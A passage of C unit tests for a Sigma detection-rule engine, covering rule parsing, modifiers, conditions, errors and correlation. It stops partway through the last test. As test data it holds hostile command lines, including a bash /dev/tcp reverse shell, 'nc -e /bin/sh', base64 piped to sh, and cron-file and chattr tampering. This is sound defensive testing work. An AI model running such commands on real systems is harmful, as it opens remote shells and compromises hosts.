/* Unit tests for the Sigma engine (src/detect/sigma*.c): loading, modifiers, wildcards,
 * conditions, logsource mapping, errors with lines, correlation parsing. */
#include "unit.h"

#include "detect/sigma.h"
#include "lib/buf.h"

#include <stdarg.h>

/* Loads text as one file, compiles; returns the ruleset (never NULL). */
static struct sigma_ruleset *load(const char *text)
{
	struct sigma_ruleset *rs;
	assert_int_equal(sigma_ruleset_new(&rs), 0);
	assert_int_equal(sigma_ruleset_load_text(rs, "t.yml", text, strlen(text)), 0);
	assert_int_equal(sigma_ruleset_compile(rs), 0);
	return rs;
}

/* A process_creation rule with one detection block (indented 4) and condition. */
static struct sigma_ruleset *proc_rule(const char *detection)
{
	char *text = xasprintf("title: t\nid: r1\nlogsource:\n  product: linux\n"
			       "  category: process_creation\ndetection:\n%s\nlevel: high\n",
			       detection);
	struct sigma_ruleset *rs = load(text);
	size_t n;
	const struct sigma_error *e = sigma_ruleset_errors(rs, &n);
	if (n)
		fprintf(stderr, "unexpected error: %s:%u: %s\n", e[0].file, e[0].line,
			e[0].message);
	assert_int_equal(n, 0);
	assert_int_equal(sigma_ruleset_count(rs), 1);
	free(text);
	return rs;
}

/* Expects the rule text to fail to compile with message containing what, at line. */
static void expect_error(const char *text, unsigned line, const char *what)
{
	struct sigma_ruleset *rs = load(text);
	size_t n;
	const struct sigma_error *e = sigma_ruleset_errors(rs, &n);
	assert_int_equal(n, 1);
	if (!strstr(e[0].message, what))
		fprintf(stderr, "error was: %s (line %u)\n", e[0].message, e[0].line);
	assert_non_null(strstr(e[0].message, what));
	assert_int_equal(e[0].line, line);
	assert_int_equal(sigma_ruleset_count(rs), 0);
	sigma_ruleset_free(rs);
}

/* Builds an event of kind k from pairs (field, value), terminated by -1. */
static void mk(struct host_event *ev, enum event_kind k, ...)
{
	va_list ap;
	int f;

	host_event_reset(ev, k, 1);
	va_start(ap, k);
	while ((f = va_arg(ap, int)) >= 0)
		assert_int_equal(
			host_event_set_str(ev, (enum event_field)f, va_arg(ap, const char *)), 0);
	va_end(ap);
}

static size_t run(struct sigma_ruleset *rs, const struct host_event *ev)
{
	struct sigma_scratch *sc = sigma_scratch_new();
	size_t n = sigma_match(rs, ev, sc, NULL, NULL);
	sigma_scratch_free(sc);
	return n;
}

/* Matches one process event with image/command line against a detection block. */
static bool proc_match(const char *detection, const char *image, const char *cmdline)
{
	struct sigma_ruleset *rs = proc_rule(detection);
	struct host_event ev;
	size_t n;

	host_event_init(&ev);
	host_event_reset(&ev, EVENT_PROCESS_EXEC, 1);
	if (image)
		host_event_set_str(&ev, EF_IMAGE, image);
	if (cmdline)
		host_event_set_str(&ev, EF_COMMAND_LINE, cmdline);
	n = run(rs, &ev);
	host_event_free(&ev);
	sigma_ruleset_free(rs);
	return n == 1;
}

static void test_basic(void **state)
{
	const char *d = "  sel:\n    Image|endswith: /curl\n    CommandLine|contains: http\n"
			"  condition: sel";
	assert_true(proc_match(d, "/usr/bin/curl", "curl http://x"));
	assert_true(proc_match(d, "/usr/bin/CURL", "curl HTTP://x")); /* case-insensitive */
	assert_false(proc_match(d, "/usr/bin/curly", "curl http://x"));
	assert_false(proc_match(d, "/usr/bin/curl", "curl ftp://x"));
	assert_false(proc_match(d, NULL, "curl http://x"));
	/* equals, startswith */
	d = "  sel:\n    Image: /bin/sh\n  condition: sel";
	assert_true(proc_match(d, "/BIN/SH", NULL));
	assert_false(proc_match(d, "/bin/sh2", NULL));
	d = "  sel:\n    CommandLine|startswith: 'nc '\n  condition: sel";
	assert_true(proc_match(d, NULL, "nc -e /bin/sh"));
	assert_false(proc_match(d, NULL, "rnc -e"));
}

static void test_lists(void **state)
{
	/* list of values = OR; |all = AND */
	const char *d = "  sel:\n    Image|endswith:\n      - /wget\n      - /curl\n"
			"  condition: sel";
	assert_true(proc_match(d, "/usr/bin/wget", NULL));
	assert_true(proc_match(d, "/usr/bin/curl", NULL));
	assert_false(proc_match(d, "/usr/bin/nc", NULL));
	d = "  sel:\n    CommandLine|contains|all:\n      - ' -e '\n      - /bin/sh\n"
	    "  condition: sel";
	assert_true(proc_match(d, NULL, "nc -e /bin/sh 1.2.3.4"));
	assert_false(proc_match(d, NULL, "nc -e /bin/bash"));
	/* list of maps = OR of ANDs */
	d = "  sel:\n    - Image|endswith: /nc\n      CommandLine|contains: ' -e '\n"
	    "    - Image|endswith: /socat\n  condition: sel";
	assert_true(proc_match(d, "/bin/nc", "nc -e x"));
	assert_false(proc_match(d, "/bin/nc", "nc -l"));
	assert_true(proc_match(d, "/usr/bin/socat", "socat"));
	/* literals shorter than a gram, at every position: start, middle, the last bytes */
	static const char *const lits[] = { "x", "-e", "q=1" };
	for (size_t k = 0; k < ARRAY_SIZE(lits); k++) {
		char det[128], line[32];
		snprintf(det, sizeof(det),
			 "  sel:\n    CommandLine|contains: '%s'\n  condition: sel", lits[k]);
		size_t l = strlen(lits[k]);
		for (size_t at = 0; at + l <= 12; at++) {
			memset(line, '.', 12);
			line[12] = '\0';
			memcpy(line + at, lits[k], l);
			assert_true(proc_match(det, NULL, line));
		}
		assert_false(proc_match(det, NULL, "............"));
		/* a short field: fewer than four bytes in all */
		assert_true(proc_match(det, NULL, lits[k]));
	}
}

static void test_wildcards(void **state)
{
	const char *d = "  sel:\n    CommandLine: '*chmod*+s*'\n  condition: sel";
	assert_true(proc_match(d, NULL, "chmod u+s /tmp/x"));
	assert_false(proc_match(d, NULL, "chmod 755 /tmp/x"));
	d = "  sel:\n    Image: '/usr/bin/python?'\n  condition: sel";
	assert_true(proc_match(d, "/usr/bin/python3", NULL));
	assert_false(proc_match(d, "/usr/bin/python", NULL));
	assert_false(proc_match(d, "/usr/bin/python3.11", NULL));
	/* escapes: \* is a literal star, \\ a backslash */
	d = "  sel:\n    CommandLine: 'echo \\*'\n  condition: sel";
	assert_true(proc_match(d, NULL, "echo *"));
	assert_false(proc_match(d, NULL, "echo x"));
	d = "  sel:\n    CommandLine|contains: 'a\\?b'\n  condition: sel";
	assert_true(proc_match(d, NULL, "xa?by"));
	assert_false(proc_match(d, NULL, "xacby"));
	d = "  sel:\n    CommandLine: 'c:\\\\*'\n  condition: sel";
	assert_true(proc_match(d, NULL, "c:\\anything"));
	d = "  sel:\n    CommandLine: '\\d'\n  condition: sel";
	assert_true(proc_match(d, NULL, "\\d"));
	/* a lone * matches any present value */
	d = "  sel:\n    CommandLine: '*'\n  condition: sel";
	assert_true(proc_match(d, NULL, "x"));
	assert_false(proc_match(d, "/x", NULL));
}

static void test_conditions(void **state)
{
	const char *base = "  a:\n    Image|endswith: /a\n  b:\n    CommandLine|contains: bb\n"
			   "  c_1:\n    CommandLine|contains: c1\n  c_2:\n"
			   "    CommandLine|contains: c2\n";
	struct {
		const char *cond, *img, *cmd;
		bool want;
	} cases[] = {
		{ "a and b", "/a", "bb", true },
		{ "a and b", "/a", "x", false },
		{ "a or b", "/x", "bb", true },
		{ "a and not b", "/a", "bb", false },
		{ "a and not b", "/a", "x", true },
		{ "not a", "/x", "x", true },
		{ "(a or b) and not (c_1 or c_2)", "/a", "c2", false },
		{ "(a or b) and not (c_1 or c_2)", "/a", "z", true },
		{ "a or b and c_1", "/a", "z", true }, /* and binds tighter */
		{ "(a or b) and c_1", "/a", "z", false },
		{ "1 of c_*", "/x", "c2", true },
		{ "all of c_*", "/x", "c2", false },
		{ "all of c_*", "/x", "c1 c2", true },
		{ "1 of them", "/x", "bb", true },
		{ "all of them", "/a", "bb c1 c2", true },
		{ "all of them", "/a", "bb c1", false },
		{ "any of c_*", "/x", "c1", true },
		{ "not not a", "/a", "", true },
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char *d = xasprintf("%s  condition: %s", base, cases[i].cond);
		bool got = proc_match(d, cases[i].img, cases[i].cmd);
		if (got != cases[i].want)
			fprintf(stderr, "case %zu: %s\n", i, cases[i].cond);
		assert_true(got == cases[i].want);
		free(d);
	}
}

static void test_null_exists(void **state)
{
	const char *d = "  sel:\n    Image|endswith: /sh\n  filter:\n    CommandLine: null\n"
			"  condition: sel and not filter";
	assert_true(proc_match(d, "/bin/sh", "sh -c x"));
	assert_false(proc_match(d, "/bin/sh", NULL));
	d = "  sel:\n    CommandLine|exists: true\n  condition: sel";
	assert_true(proc_match(d, NULL, "x"));
	assert_false(proc_match(d, "/x", NULL));
	d = "  sel:\n    CommandLine|exists: false\n  condition: sel";
	assert_false(proc_match(d, NULL, "x"));
	assert_true(proc_match(d, "/x", NULL));
	d = "  sel:\n    CommandLine: ''\n  condition: sel";
	assert_true(proc_match(d, "/x", ""));
	assert_false(proc_match(d, "/x", "a"));
}

static void test_regex(void **state)
{
	const char *d = "  sel:\n    CommandLine|re: 'bash -i >& /dev/tcp/[0-9.]+/[0-9]+'\n"
			"  condition: sel";
	assert_true(proc_match(d, NULL, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
	assert_false(proc_match(d, NULL, "BASH -I >& /DEV/TCP/10.0.0.1/4444")); /* cased */
	d = "  sel:\n    CommandLine|re|i: 'bash -i'\n  condition: sel";
	assert_true(proc_match(d, NULL, "BASH -I"));
	d = "  sel:\n    CommandLine|re|m: '^b$'\n  condition: sel";
	assert_true(proc_match(d, NULL, "a\nb\nc"));
	d = "  sel:\n    CommandLine|re: '^b$'\n  condition: sel";
	assert_false(proc_match(d, NULL, "a\nb\nc"));
	d = "  sel:\n    CommandLine|re|s: 'a.c'\n  condition: sel";
	assert_true(proc_match(d, NULL, "a\nc"));
	d = "  sel:\n    CommandLine|re: 'a.c'\n  condition: sel";
	assert_false(proc_match(d, NULL, "a\nc"));
}

static void test_cidr_num(void **state)
{
	const char *rule = "title: t\nid: n1\nlogsource:\n  category: network_connection\n"
			   "  product: linux\ndetection:\n  sel:\n"
			   "    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
			   "    DestinationPort|gte: 1024\n    Initiated: 'true'\n"
			   "  condition: sel\n";
	struct sigma_ruleset *rs = load(rule);
	struct host_event ev;
	size_t n;

	sigma_ruleset_errors(rs, &n);
	assert_int_equal(n, 0);
	host_event_init(&ev);
	mk(&ev, EVENT_NET_CONNECT, EF_DST_IP, "10.1.2.3", EF_DST_PORT, "4444", EF_DIRECTION,
	   "outbound", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_NET_CONNECT, EF_DST_IP, "fd12::1", EF_DST_PORT, "4444", EF_DIRECTION,
	   "outbound", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_NET_CONNECT, EF_DST_IP, "11.1.2.3", EF_DST_PORT, "4444", EF_DIRECTION,
	   "outbound", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_NET_CONNECT, EF_DST_IP, "10.1.2.3", EF_DST_PORT, "80", EF_DIRECTION,
	   "outbound", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_NET_CONNECT, EF_DST_IP, "10.1.2.3", EF_DST_PORT, "4444", EF_DIRECTION,
	   "inbound", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_NET_CONNECT, EF_DST_IP, "10.1.2.3", EF_DST_PORT, "x", EF_DIRECTION,
	   "outbound", -1);
	assert_int_equal(run(rs, &ev), 0);
	/* not a network_connection kind */
	mk(&ev, EVENT_PROCESS_EXEC, EF_DST_IP, "10.1.2.3", EF_DST_PORT, "4444", -1);
	assert_int_equal(run(rs, &ev), 0);
	host_event_free(&ev);
	sigma_ruleset_free(rs);

	assert_true(proc_match("  sel:\n    ProcessId|lt: 100\n  condition: sel", NULL, NULL) ==
		    false);
}

static void test_base64_windash_fieldref(void **state)
{
	/* "whoami" in base64 is d2hvYW1p */
	const char *d = "  sel:\n    CommandLine|base64|contains: whoami\n  condition: sel";
	assert_true(proc_match(d, NULL, "echo d2hvYW1p | base64 -d | sh"));
	assert_false(proc_match(d, NULL, "echo aWQ= | base64 -d"));
	/* base64offset: "/bin/sh" inside longer encoded text, at each offset */
	d = "  sel:\n    CommandLine|base64offset|contains: /bin/sh\n  condition: sel";
	assert_true(proc_match(d, NULL, "L2Jpbi9zaA==")); /* "/bin/sh" */
	assert_true(proc_match(d, NULL, "eC9iaW4vc2g=")); /* "x/bin/sh" */
	assert_true(proc_match(d, NULL, "eHgvYmluL3No")); /* "xx/bin/sh" */
	assert_false(proc_match(d, NULL, "aGVsbG8="));
	d = "  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel";
	assert_true(proc_match(d, NULL, "pwsh -enc AAA"));
	assert_true(proc_match(d, NULL, "pwsh /enc AAA"));
	assert_true(proc_match(d, NULL,
			       "pwsh \xe2\x80\x93"
			       "enc AAA"));
	assert_false(proc_match(d, NULL, "pwsh +enc AAA"));
	/* fieldref: the parent runs the same image */
	struct sigma_ruleset *rs = proc_rule("  sel:\n    ParentImage|fieldref: Image\n"
					     "  condition: sel");
	struct host_event ev;
	host_event_init(&ev);
	mk(&ev, EVENT_PROCESS_EXEC, EF_IMAGE, "/bin/sh", EF_PARENT_IMAGE, "/BIN/SH", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_PROCESS_EXEC, EF_IMAGE, "/bin/sh", EF_PARENT_IMAGE, "/bin/bash", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_PROCESS_EXEC, EF_PARENT_IMAGE, "/bin/bash", -1);
	assert_int_equal(run(rs, &ev), 0);
	host_event_free(&ev);
	sigma_ruleset_free(rs);
}

static void test_keywords_services(void **state)
{
	const char *rule = "title: t\nid: k1\nlogsource:\n  product: linux\n  service: sshd\n"
			   "detection:\n  keywords:\n    - 'Failed password'\n"
			   "    - 'Invalid user'\n  condition: keywords\n";
	struct sigma_ruleset *rs = load(rule);
	struct host_event ev;
	size_t n;

	sigma_ruleset_errors(rs, &n);
	assert_int_equal(n, 0);
	host_event_init(&ev);
	mk(&ev, EVENT_LOG_LINE, EF_SERVICE, "sshd", EF_MESSAGE,
	   "Failed password for root from 1.2.3.4 port 22 ssh2", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_LOG_LINE, EF_SERVICE, "sshd", EF_MESSAGE, "invalid USER bob", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_LOG_LINE, EF_SERVICE, "sudo", EF_MESSAGE, "Failed password", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_LOG_LINE, EF_SERVICE, "sshd", EF_MESSAGE, "Accepted publickey", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_LOG_LINE, EF_MESSAGE, "Failed password", -1); /* no service */
	assert_int_equal(run(rs, &ev), 0);
	sigma_ruleset_free(rs);

	/* service sudo: sudo events (USER is the target user) and sudo's log lines */
	rs = load("title: t\nid: s1\nlogsource: {product: linux, service: sudo}\n"
		  "detection:\n  sel:\n    USER: '#-*'\n  condition: sel\n");
	sigma_ruleset_errors(rs, &n);
	assert_int_equal(n, 0);
	mk(&ev, EVENT_SUDO, EF_TARGET_USER, "#-1", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_SUDO, EF_TARGET_USER, "#-1", EF_SERVICE, "sudo", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_SUDO, EF_TARGET_USER, "root", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_SU, EF_TARGET_USER, "#-1", -1);
	assert_int_equal(run(rs, &ev), 0);
	sigma_ruleset_free(rs);

	/* product linux alone: log lines and process command lines */
	rs = load("title: t\nid: p1\nlogsource: {product: linux}\n"
		  "detection:\n  keywords:\n    - 'bash -i >& /dev/tcp/'\n  condition: keywords\n");
	sigma_ruleset_errors(rs, &n);
	assert_int_equal(n, 0);
	mk(&ev, EVENT_LOG_LINE, EF_MESSAGE, "x bash -i >& /dev/tcp/1.2.3.4/1 0>&1", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_PROCESS_EXEC, EF_COMMAND_LINE, "bash -c bash -i >& /dev/tcp/1.2.3.4/1", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_NET_CONNECT, EF_COMMAND_LINE, "bash -i >& /dev/tcp/1.2.3.4/1", -1);
	assert_int_equal(run(rs, &ev), 0);
	host_event_free(&ev);
	sigma_ruleset_free(rs);

	/* keywords on process events search the command line */
	assert_true(proc_match("  kw:\n    - 'base64 -d'\n  condition: kw", NULL,
			       "echo x | base64 -d"));
}

static void test_auditd_file(void **state)
{
	const char *rule = "title: t\nid: a1\nlogsource:\n  product: linux\n  service: auditd\n"
			   "detection:\n  sel:\n    type: EXECVE\n    a0: chattr\n"
			   "    a1|startswith: '-i'\n  condition: sel\n"
			   "---\ntitle: f\nid: f1\nlogsource:\n  category: file_event\n"
			   "  product: linux\ndetection:\n  sel:\n"
			   "    TargetFilename|startswith: /etc/cron.d/\n  condition: sel\n";
	struct sigma_ruleset *rs = load(rule);
	struct host_event ev;
	size_t n;

	sigma_ruleset_errors(rs, &n);
	assert_int_equal(n, 0);
	assert_int_equal(sigma_ruleset_count(rs), 2);
	host_event_init(&ev);
	mk(&ev, EVENT_PROCESS_EXEC, EF_COMMAND_LINE, "chattr  -i /etc/passwd", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_PROCESS_EXEC, EF_COMMAND_LINE, "chattr +i /etc/passwd", -1);
	assert_int_equal(run(rs, &ev), 0);
	mk(&ev, EVENT_FILE_CREATE, EF_TARGET_FILENAME, "/etc/cron.d/evil", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_FILE_DELETE, EF_TARGET_FILENAME, "/etc/cron.d/evil", -1);
	assert_int_equal(run(rs, &ev), 0);
	/* a rename matches on its new path */
	mk(&ev, EVENT_FILE_RENAME, EF_TARGET_FILENAME, "/tmp/x", EF_RENAMED_FILENAME,
	   "/etc/cron.d/x", -1);
	assert_int_equal(run(rs, &ev), 1);
	mk(&ev, EVENT_FILE_RENAME, EF_TARGET_FILENAME, "/etc/cron.d/x", EF_RENAMED_FILENAME,
	   "/tmp/x", -1);
	assert_int_equal(run(rs, &ev), 0);
	host_event_free(&ev);
	sigma_ruleset_free(rs);
}

static void test_metadata(void **state)
{
	struct sigma_ruleset *rs =
		load("title: Curl\nid: 11111111-2222-3333-4444-555555555555\nname: curl_dl\n"
		     "status: test\ndescription: d\nauthor: x\nreferences:\n  - https://x\n"
		     "logsource:\n  product: linux\n  category: process_creation\n"
		     "detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n"
		     "falsepositives:\n  - admins\nlevel: critical\n"
		     "tags:\n  - attack.execution\n  - attack.t1105\n");
	const struct sigma_rule *r;

	assert_int_equal(sigma_ruleset_count(rs), 1);
	r = sigma_ruleset_rule(rs, 0);
	assert_string_equal(r->id, "11111111-2222-3333-4444-555555555555");
	assert_string_equal(r->name, "curl_dl");
	assert_string_equal(r->title, "Curl");
	assert_string_equal(r->status, "test");
	assert_string_equal(r->description, "d");
	assert_int_equal(r->level, SIGMA_LEVEL_CRITICAL);
	assert_string_equal(r->tags[0], "attack.execution");
	assert_string_equal(r->tags[1], "attack.t1105");
	assert_null(r->tags[2]);
	assert_string_equal(r->file, "t.yml");
	assert_int_equal(r->line, 1);
	assert_null(r->correlation);
	assert_int_equal(sigma_ruleset_find(rs, "curl_dl"), 0);
	assert_int_equal(sigma_ruleset_find(rs, "11111111-2222-3333-4444-555555555555"), 0);
	assert_int_equal(sigma_ruleset_find(rs, "nope"), -ENOENT);
	assert_string_equal(sigma_level_name(SIGMA_LEVEL_HIGH), "high");
	assert_int_equal(sigma_ruleset_compile(rs), -EALREADY);
	sigma_ruleset_free(rs);
}

#define HDR "title: t\nid: e1\nlogsource:\n  product: linux\n  category: process_creation\n"

static void test_errors(void **state)
{
	expect_error(HDR "detection:\n  sel:\n    Image|foo: x\n  condition: sel\n", 8,
		     "unknown modifier 'foo'");
	expect_error(HDR "detection:\n  sel:\n    Image: x\n  condition: sel and other\n", 9,
		     "undefined selection 'other'");
	expect_error(HDR "detection:\n  sel:\n    OriginalFileName: x\n  condition: sel\n", 8,
		     "field 'OriginalFileName' is not available");
	expect_error(HDR "detection:\n  sel:\n    TargetFilename: x\n  condition: sel\n", 8,
		     "not filled for this logsource");
	expect_error(HDR "detection:\n  sel:\n    CommandLine|re: 'a(b'\n  condition: sel\n", 8,
		     "bad regular expression");
	expect_error(HDR "detection:\n  sel:\n    Image: x\n  condition: sel | count() > 5\n", 9,
		     "aggregations");
	expect_error(HDR "detection:\n  sel:\n    Image: x\n  condition: (sel\n", 9,
		     "expected ')'");
	expect_error(HDR "detection:\n  sel:\n    Image: x\n", 7, "no condition");
	expect_error(HDR "detection:\n  sel:\n    src_ip|cidr: 10.0.0.0/33\n"
			 "  condition: sel\n",
		     8, "not an IPv4 or IPv6 network");
	expect_error(HDR "detection:\n  sel:\n    ProcessId|gt: abc\n  condition: sel\n", 8,
		     "not an integer");
	expect_error("title: t\nid: w\nlogsource:\n  product: windows\n  category: "
		     "process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel\n",
		     4, "product 'windows'");
	expect_error("title: t\nid: w\nlogsource:\n  category: registry_set\n"
		     "detection:\n  sel:\n    Image: x\n  condition: sel\n",
		     4, "category 'registry_set'");
	expect_error("title: t\nlogsource:\n  category: process_creation\n", 1, "no id");
	expect_error("title: t\nid: x\nlevel: urgent\n", 3, "level");
	expect_error("title: t\nid: x\nlogsource: {category: process_creation}\n"
		     "detection:\n  sel: {Image: [x, {a: b}]}\n  condition: sel\n",
		     5, "expected a value");
}

static void test_bad_among_good(void **state)
{
	const char *text = "title: good1\nid: g1\nlogsource: {category: process_creation}\n"
			   "detection:\n  sel: {Image: /a}\n  condition: sel\n"
			   "---\n"
			   "title: bad\nid: b1\nlogsource: {category: process_creation}\n"
			   "detection:\n  sel:\n    Image|nope: /a\n  condition: sel\n"
			   "---\n"
			   "title: broken yaml\nid: [unclosed\n"
			   "---\n"
			   "title: good2\nid: g2\nlogsource: {category: process_creation}\n"
			   "detection:\n  sel: {Image: /b}\n  condition: sel\n";
	struct sigma_ruleset *rs = load(text);
	size_t n;
	const struct sigma_error *e = sigma_ruleset_errors(rs, &n);

	assert_int_equal(sigma_ruleset_count(rs), 2);
	assert_string_equal(sigma_ruleset_rule(rs, 0)->id, "g1");
	assert_string_equal(sigma_ruleset_rule(rs, 1)->id, "g2");
	assert_int_equal(sigma_ruleset_rule(rs, 1)->line, 19);
	assert_int_equal(n, 2);
	/* the YAML error comes at load, the modifier error at compile */
	assert_string_equal(e[0].file, "t.yml");
	assert_null(e[0].rule_id);
	assert_true(e[0].line >= 16 && e[0].line <= 18);
	assert_string_equal(e[1].rule_id, "b1");
	assert_int_equal(e[1].line, 13);
	sigma_ruleset_free(rs);
}

static void test_correlation(void **state)
{
	const char *text =
		"title: failed\nid: f1\nname: ssh_failed\nlogsource: {product: linux, service: "
		"sshd}\ndetection:\n  kw: ['Failed password']\n  condition: kw\n"
		"---\n"
		"title: brute\nid: c1\ncorrelation:\n  type: event_count\n  rules:\n"
		"    - ssh_failed\n  group-by:\n    - SourceIp\n  timespan: 5m\n"
		"  condition:\n    gte: 10\nlevel: high\n"
		"---\n"
		"title: spray\nid: c2\ncorrelation:\n  type: value_count\n  rules: f1\n"
		"  group-by: [SourceIp]\n  timespan: 1h\n  condition:\n    gt: 5\n"
		"    field: TargetUserName\n  generate: true\n"
		"---\n"
		"title: chain\nid: c3\ncorrelation:\n  type: temporal_ordered\n"
		"  rules: [f1, ssh_failed]\n  timespan: 30s\n"
		"---\n"
		"title: dangling\nid: c4\ncorrelation:\n  type: temporal\n  rules: [nope]\n"
		"  timespan: 2d\n"
		"---\n"
		"title: badspan\nid: c5\ncorrelation:\n  type: event_count\n  rules: [f1]\n"
		"  timespan: 5 minutes\n  condition: {gte: 2}\n";
	struct sigma_ruleset *rs = load(text);
	const struct sigma_rule *r;
	size_t n;
	const struct sigma_error *e = sigma_ruleset_errors(rs, &n);

	assert_int_equal(n, 2);
	assert_string_equal(e[0].rule_id, "c5");
	assert_non_null(strstr(e[0].message, "timespan"));
	assert_string_equal(e[1].rule_id, "c4");
	assert_non_null(strstr(e[1].message, "'nope'"));
	assert_int_equal(sigma_ruleset_count(rs), 4);
	r = sigma_ruleset_rule(rs, 1);
	assert_string_equal(r->id, "c1");
	assert_non_null(r->correlation);
	assert_int_equal(r->correlation->type, SIGMA_CORR_EVENT_COUNT);
	assert_int_equal(r->correlation->n_refs, 1);
	assert_int_equal(r->correlation->refs[0], 0);
	assert_int_equal(r->correlation->n_group_by, 1);
	assert_int_equal(r->correlation->group_by[0], EF_SRC_IP);
	assert_true(r->correlation->timespan_ns == 300 * 1000000000ll);
	assert_true(r->correlation->min == 10);
	assert_true(r->correlation->max == INT64_MAX);
	assert_false(r->correlation->generate);
	assert_int_equal(r->level, SIGMA_LEVEL_HIGH);
	r = sigma_ruleset_rule(rs, 2);
	assert_int_equal(r->correlation->type, SIGMA_CORR_VALUE_COUNT);
	assert_int_equal(r->correlation->value_field, EF_TARGET_USER);
	assert_true(r->correlation->min == 6);
	assert_true(r->correlation->generate);
	assert_true(r->correlation->timespan_ns == 3600 * 1000000000ll);
	r = sigma_ruleset_rule(rs, 3);
	assert_int_equal(r->correlation->type, SIGMA_CORR_TEMPORAL_ORDERED);
	assert_int_equal(r->correlation->n_refs, 2);
	assert_int_equal(r->correlation->n_group_by, 0);
	assert_true(r->correlation->timespan_ns == 30 * 1000000000ll);

	/* correlation rules never match events themselves */
	struct host_event ev;
	host_event_init(&ev);
	mk(&ev, EVENT_LOG_LINE, EF_SERVICE, "sshd", EF_MESSAGE, "Failed password for x", -1);
	assert_int_equal(run(rs, &ev), 1);
	host_event_free(&ev);
	sigma_ruleset_free(rs);
}

/* A correlation may refer to a correlation of detection rules (in either file order); deeper
 * nesting and self-reference are refused, and a drop cascades to the correlations that
 * referred to the dropped one without aborting. */
static void test_correlation_of_correlation(void **state)
{
	const char *text =
		"title: then\nid: o1\ncorrelation:\n  type: temporal_ordered\n"
		"  rules: [brute, ok]\n  group-by: [SourceIp]\n  timespan: 10m\n"
		"---\n"
		"title: failed\nid: f1\nname: failed\nlogsource: {product: linux, service: sshd}\n"
		"detection:\n  kw: ['Failed password']\n  condition: kw\n"
		"---\n"
		"title: accepted\nid: a1\nname: ok\nlogsource: {product: linux, service: sshd}\n"
		"detection:\n  kw: ['Accepted password']\n  condition: kw\n"
		"---\n"
		"title: brute\nid: c1\nname: brute\ncorrelation:\n  type: event_count\n"
		"  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 5m\n  condition: {gte: 3}\n"
		"---\n"
		"title: deeper\nid: d1\ncorrelation:\n  type: temporal\n  rules: [o1, a1]\n"
		"  timespan: 1h\n"
		"---\n"
		"title: self\nid: s1\ncorrelation:\n  type: temporal\n  rules: [s1, a1]\n"
		"  timespan: 1h\n"
		"---\n"
		"title: inner gone\nid: g1\nname: gone\ncorrelation:\n  type: event_count\n"
		"  rules: [nope]\n  timespan: 1h\n  condition: {gte: 2}\n"
		"---\n"
		"title: outer of gone\nid: g2\ncorrelation:\n  type: temporal\n"
		"  rules: [a1, gone]\n  timespan: 1h\n";
	struct sigma_ruleset *rs = load(text);
	const struct sigma_rule *r;
	size_t n;
	const struct sigma_error *e = sigma_ruleset_errors(rs, &n);

	(void)state;
	assert_int_equal(n, 4);
	assert_string_equal(e[0].rule_id, "d1");
	assert_non_null(strstr(e[0].message, "'o1' is a correlation of correlations"));
	assert_string_equal(e[1].rule_id, "s1");
	assert_non_null(strstr(e[1].message, "'s1' is this correlation"));
	assert_string_equal(e[2].rule_id, "g1");
	assert_non_null(strstr(e[2].message, "'nope' is not loaded"));
	assert_string_equal(e[3].rule_id, "g2");
	assert_non_null(strstr(e[3].message, "'gone'"));
	assert_int_equal(sigma_ruleset_count(rs), 4);
	r = sigma_ruleset_rule(rs, 0);
	assert_string_equal(r->id, "o1");
	assert_int_equal(r->correlation->n_refs, 2);
	assert_string_equal(sigma_ruleset_rule(rs, r->correlation->refs[0])->id, "c1");
	assert_string_equal(sigma_ruleset_rule(rs, r->correlation->refs[1])->id, "a1");
	r = sigma_ruleset_rule(rs, 3);
	assert_string_equal(r->id, "c1");
	assert_string_equal(sigma_ruleset_rule(rs, r->correlation->refs[0])->id, "f1");
	sigma_ruleset_free(rs);
}

static void collect(size_t rule, void *arg)
{
	size_t *v = arg;
	v[v[0]++ + 1] = rule;
}

/* Many rules sharing grams, some always-run: the prefilter never hides a match. */
static void test_prefilter_many(void **state)
{
	struct sigma_ruleset *rs;
	struct buf b;
	struct host_event ev;
	size_t got[64] = { 0 };

	buf_init(&b, 1u << 20);
	for (int i = 0; i < 40; i++)
		buf_printf(&b,
			   "---\ntitle: r%d\nid: r%d\nlogsource: {category: process_creation}\n"
			   "detection:\n  sel:\n    Image|endswith: /tool%d\n"
			   "  n:\n    CommandLine|contains: safe\n  condition: sel and not n\n",
			   i, i, i);
	buf_puts(&b, "---\ntitle: any\nid: any\nlogsource: {category: process_creation}\n"
		     "detection:\n  sel:\n    CommandLine|re: 'tool[0-9]'\n  condition: sel\n");
	rs = load(buf_str(&b));
	buf_free(&b);
	assert_int_equal(sigma_ruleset_count(rs), 41);
	host_event_init(&ev);
	mk(&ev, EVENT_PROCESS_EXEC, EF_IMAGE, "/opt/TOOL17", EF_COMMAND_LINE, "tool17 run", -1);
	struct sigma_scratch *sc = sigma_scratch_new();
	assert_int_equal(sigma_match(rs, &ev, sc, collect, got), 2);
	assert_int_equal(got[0], 2);
	assert_int_equal(got[1], 17);
	assert_int_equal(got[2], 40);
